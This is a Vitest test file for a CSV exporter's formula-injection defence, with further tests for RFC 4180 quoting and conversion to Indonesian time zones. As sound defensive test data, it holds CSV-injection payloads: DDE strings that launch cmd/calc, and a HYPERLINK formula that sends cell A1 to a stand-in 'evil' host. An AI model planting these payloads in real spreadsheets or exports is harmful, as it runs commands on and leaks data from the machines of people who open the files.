import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'

import { type CsvColumn, csvDateTime, neutraliseFormulas, restoreCsvText, toCsv } from './csv'

const one: CsvColumn<{ v: unknown }>[] = [{ header: 'v', value: (r) => r.v }]

/** The cell values a CSV reader gets back, splitting on `separator` and honouring quotes. */
function cells(csv: string, separator: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), {
    delimiter: separator,
    skipEmptyLines: true,
  })
  return parsed.data.flat()
}

/** True when a spreadsheet would run the cell: its first non-space character starts a formula. */
const runsAsFormula = (cell: string) => /^[^\S\t\r\n]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)

describe('toCsv: formulas are neutralised in every cell and after every separator', () => {
  it.each([
    ['=SUM(A1)', "'=SUM(A1)"],
    ['+cmd|/C calc!A0', "'+cmd|/C calc!A0"],
    ['-2+3+cmd|/C calc!A0', "'-2+3+cmd|/C calc!A0"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['  =1+1', "'  =1+1"],
    ['Harga; =HYPERLINK("http://x")', `Harga;' =HYPERLINK("http://x")`],
    ['a,=1+1', "a,'=1+1"],
    ['a;@x', "a;'@x"],
    ['\t=1+1', "\t'=1+1"],
    ['\r=1+1', "\r'=1+1"],
    ['baris satu\n=1+1', "baris satu\n'=1+1"],
    ['x\r\n-1+cmd', "x\r\n'-1+cmd"],
    ["'=1", "''=1"],
  ])('%j is written as %j', (value, neutral) => {
    expect(neutraliseFormulas(value)).toBe(neutral)
  })

  it.each(['-5', '+3.25', '-1,5', '12; -7', 'Jl. Merdeka No. 5, Bandung', 'a\n\nb', '\tteks'])(
    'leaves %j as it is (plain numbers and text)',
    (value) => {
      expect(neutraliseFormulas(value)).toBe(value)
    },
  )

  it('no cell starts a formula whichever separator the spreadsheet splits on', () => {
    const hostile = [
      'x,"a;=1+1"',
      'a;=HYPERLINK("http://evil/?"&A1)',
      'b,@SUM(1)',
      'c\t-2+3',
      'd\n+cmd|x',
      'e\r=1',
      '=1;=2,=3',
    ]
    const csv = toCsv(
      hostile.map((v) => ({ a: 'plain', b: v, c: v })),
      [
        { header: 'a', value: (r) => r.a },
        { header: 'b', value: (r) => r.b },
        { header: 'c', value: (r) => r.c },
      ],
    )
    for (const separator of [',', ';', '\t']) {
      for (const cell of cells(csv, separator)) expect(runsAsFormula(cell), cell).toBe(false)
    }
    // A reader that ignores quotes altogether and splits on every separator and line break.
    for (const cell of csv.replace(/^\uFEFF/, '').split(/[,;\t\r\n]/)) {
      expect(runsAsFormula(cell.replace(/^"/, '')), cell).toBe(false)
    }
  })

  it('quotes per RFC 4180, also cells with ; or a tab; BOM and CRLF', () => {
    const csv = toCsv(
      [
        { a: 'x, "y"', b: 'p;q', c: null },
        { a: ['BG001', 'BS001'], b: 7, c: undefined },
      ],
      [
        { header: 'A', value: (r) => r.a },
        { header: 'B', value: (r) => r.b },
        { header: 'C', value: (r) => r.c },
      ],
    )
    expect(csv).toBe('\uFEFFA,B,C\r\n"x, ""y""","p;q",\r\n"BG001; BS001",7,\r\n')
    expect(toCsv([], one)).toBe('\uFEFFv\r\n')
  })
})

describe('restoreCsvText', () => {
  it('undoes the neutralising exactly, apostrophes the user typed included', () => {
    const values = [
      '=SUM(A1)',
      "'=1",
      "''+2",
      "'-5",
      "'teks",
      '-5',
      'a;=1,b\n@c',
      '  =1',
      '\t=1',
      "Nama 'kutip'",
      'x\r\n-1+cmd',
    ]
    for (const value of values) expect(restoreCsvText(neutraliseFormulas(value))).toBe(value)
  })
})

describe('toCsv: times in the site time zone', () => {
  const at: CsvColumn<{ at: unknown }>[] = [{ header: 'at', value: (r) => r.at }]
  const body = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n')[1]

  it('writes a timestamp as its WIB wall-clock time, YYYY-MM-DD HH:mm', () => {
    expect(body(toCsv([{ at: '2026-11-29T07:05:00+00:00' }], at))).toBe('2026-11-29 14:05')
    expect(body(toCsv([{ at: '2026-11-29T20:30:59.999Z' }], at))).toBe('2026-11-30 03:30')
    expect(csvDateTime('2026-11-29T07:05:00.123456+00:00')).toBe('2026-11-29 14:05')
  })

  it('uses the time zone it is given (the site setting: WITA, WIT)', () => {
    const value = [{ at: '2026-11-29T07:05:00+00:00' }]
    expect(body(toCsv(value, at, { timeZone: 'Asia/Makassar' }))).toBe('2026-11-29 15:05')
    expect(body(toCsv(value, at, { timeZone: 'Asia/Jayapura' }))).toBe('2026-11-29 16:05')
  })

  it('leaves calendar dates and text that only looks like a time as they are', () => {
    expect(body(toCsv([{ at: '2026-11-29' }], at))).toBe('2026-11-29')
    expect(body(toCsv([{ at: 'rapat 2026-11-29T07:05:00Z' }], at))).toBe(
      'rapat 2026-11-29T07:05:00Z',
    )
    expect(body(toCsv([{ at: null }], at))).toBe('')
  })
})
